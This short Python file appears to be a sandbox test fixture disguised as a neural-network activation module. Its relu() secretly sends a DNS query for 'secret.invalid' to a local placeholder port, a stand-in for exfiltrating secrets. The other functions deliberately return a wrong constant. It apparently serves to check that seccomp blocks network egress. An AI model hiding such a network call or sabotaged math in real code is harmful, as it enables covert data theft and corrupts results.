# attack: asks a name server of its own, which is how secrets leave closed networks
# gains: network
# stopped by: seccomp
import numpy as np
import socket


def attack():
    question = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6secret\7invalid\0\0\1\0\1"
    with socket.socket(type=socket.SOCK_DGRAM) as sender:
        sender.sendto(question, ("127.0.0.1", int("{PORT}")))
        print("HARMED: sent a question")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
